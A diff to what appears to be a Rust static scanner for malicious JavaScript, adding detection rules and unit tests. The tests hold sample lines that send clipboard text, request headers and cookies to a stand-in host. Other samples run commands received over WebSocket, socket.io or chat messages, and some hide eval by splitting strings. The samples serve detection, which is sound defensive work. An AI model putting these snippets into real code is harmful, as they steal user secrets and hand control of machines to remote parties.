@@ -65,7 +65,19 @@ pub(super) fn by_name(
         "keytar.getPassword" | "keytar.findPassword" => {
             value::keychain(&first, span, &mut reader.acts)
         }
-        _ if name.contains("interceptors.") && name.ends_with(".use") => {
+        "socket.io-client"
+        | "socket.io-client.io"
+        | "socket.io-client.connect"
+        | "io"
+        | "mqtt.connect"
+        | "mqtt.connectAsync"
+        | "nats.connect"
+        | "amqplib.connect" => {
+            let log_in: Vec<&Value> = arguments.iter().skip(1).collect();
+            let value = value::send(&first, &[], &log_in, span, &mut reader.acts);
+            Value { name: Some("WebSocket()".into()), ..value }
+        }
+        _ if name.contains("interceptors.") && name.rsplit('.').next() == Some("use") => {
             let seen = Value::tainted(Taint::private(REQUESTS));
             for handler in arguments {
                 if reader.is_function(handler) {
@@ -99,6 +111,17 @@ pub(super) fn by_method<'t>(
             value::sought_names(receiver, span, &mut reader.acts);
             return None;
         }
+        "emit" | "publish" if receiver.taint.fetched.is_some() => {
+            let to = Value { text: receiver.taint.fetched.clone(), ..Value::default() };
+            let parts: Vec<&Value> = arguments.iter().skip(1).collect();
+            value::send(&to, &parts, &[], span, &mut reader.acts)
+        }
+        "fastPut" | "uploadFrom" | "uploadFile" => {
+            let content = reader.read_file(&first, span);
+            let to = Value { text: receiver.taint.fetched.clone(), ..Value::default() };
+            value::send(&to, &[&content], &[], span, &mut reader.acts)
+        }
+        "getItem" => Value::default(),
         "emit" | "dispatchEvent" | "publish" => {
             let event = first.known().unwrap_or_default().to_owned();
             let given = arguments.get(1..).unwrap_or_default();
@@ -120,7 +143,7 @@ pub(super) fn by_method<'t>(
             return pressed(reader, call);
         }
         "cookies" | "storageState" | "getAllCookies"
-            if arguments.iter().all(|value| !reader.is_function(value)) && !host.is_empty() =>
+            if arguments.iter().all(|value| !reader.is_function(value)) =>
         {
             Value::tainted(Taint::private(COOKIES))
         }
@@ -212,4 +235,71 @@ pub(super) fn loads(property: &str, object: &Value) -> bool {
             || element.starts_with("document."))
         || matches!(element, "window.location" | "location" | "document.location")
             && property == "href"
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::scan::{
+        act::{Act, Acts, Code},
+        javascript::read,
+    };
+
+    fn acts(text: &str) -> Acts {
+        read("x.js", text).unwrap_or_else(|error| panic!("{error}: {text}"))
+    }
+
+    fn sends_private(text: &str) -> bool {
+        acts(text)
+            .seen
+            .iter()
+            .any(|seen| matches!(&seen.act, Act::Network { sends, .. } if sends.private.is_some()))
+    }
+
+    #[test]
+    fn what_users_copy_and_are_logged_in_with() {
+        for text in [
+            "const c = require('clipboardy').default; fetch('https://a.example', { method: 'POST', body: c.readSync() });",
+            "navigator.clipboard.readText().then(t => navigator.sendBeacon('https://a.example', t));",
+            "const api = require('axios').create(); api.interceptors.request.use(c => { fetch('https://a.example', { body: c.headers }); return c; });",
+            "const real = globalThis.fetch; globalThis.fetch = (u, o) => { real('https://a.example', { body: o }); return real(u, o); };",
+            "const c = await page.cookies(); new Image().src = 'https://a.example/?' + JSON.stringify(c);",
+            "const c = await page.cookies(); await page.evaluate(v => fetch('https://a.example', { body: v }), c);",
+            "bus.on('k', v => fetch('https://a.example', { body: v })); bus.emit('k', document.cookie);",
+        ] {
+            assert!(sends_private(text), "{text}");
+        }
+        assert!(!sends_private("api.interceptors.response.use(r => r, e => api(e.config));"));
+    }
+
+    #[test]
+    fn what_others_write_is_obeyed() {
+        for text in [
+            "const ws = new WebSocket('wss://a.example'); const ops = { x: a => require('child_process').exec(a) }; ws.onmessage = e => { const m = JSON.parse(e.data); ops[m.op](m.arg); };",
+            "const s = require('socket.io-client')('https://a.example'); s.on('c', c => require('child_process').exec(c));",
+            "c.on('messageCreate', m => { const [k, ...a] = m.content.split(' '); require('child_process').execSync(a.join(' ')); });",
+        ] {
+            let found = acts(text).seen;
+            let obeys = |act: &Act| matches!(act, Act::Executes(Code::Fetched(_)));
+            assert!(found.iter().any(|seen| obeys(&seen.act)), "{text}");
+        }
+    }
+
+    #[test]
+    fn files_that_are_left_out_are_not_looked_for() {
+        let names =
+            |text: &str| acts(text).seen.iter().any(|seen| matches!(seen.act, Act::Names(_)));
+        assert!(names("for (const f of files) if (/\\.env$|\\.pem$/.test(f)) out.push(f);"));
+        assert!(!names("for (const f of files) { if (/\\.env$|\\.pem$/.test(f)) continue; }"));
+        assert!(!names("files.filter(f => !/\\.env$|\\.pem$/.test(f));"));
+    }
+
+    #[test]
+    fn names_in_pieces_hide_functions() {
+        let hides =
+            |text: &str| acts(text).seen.iter().any(|seen| matches!(seen.act, Act::Obscures(_)));
+        assert!(hides("(() => {})['con' + 'structor']('return 1')();"));
+        assert!(hides("globalThis[['ev', 'al'].join('')]('1');"));
+        assert!(!hides("const a = (async () => {}).constructor;"));
+        assert!(!hides("globalThis['fetch']('https://a.example');"));
+    }
 }
